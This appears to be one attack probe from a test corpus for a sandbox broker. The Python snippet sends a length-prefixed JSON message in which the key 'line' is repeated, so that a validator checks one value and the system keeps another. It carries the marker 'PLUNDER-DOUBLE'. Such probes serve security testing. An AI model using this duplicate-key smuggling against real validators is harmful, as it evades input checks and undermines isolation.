# attack: raw | names the same thing twice, so that what is checked is not what is kept
import json, os, struct
def send(body, payload=b""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    os.write(BROKER_FD, struct.pack("<II", len(body), len(payload)) + body + payload)
send(b'{"op":"log","line":"short"' + b',"line":"' + b"x" * 150 + b'"' * 1 + b',"line":["PLUNDER-DOUBLE"]}')
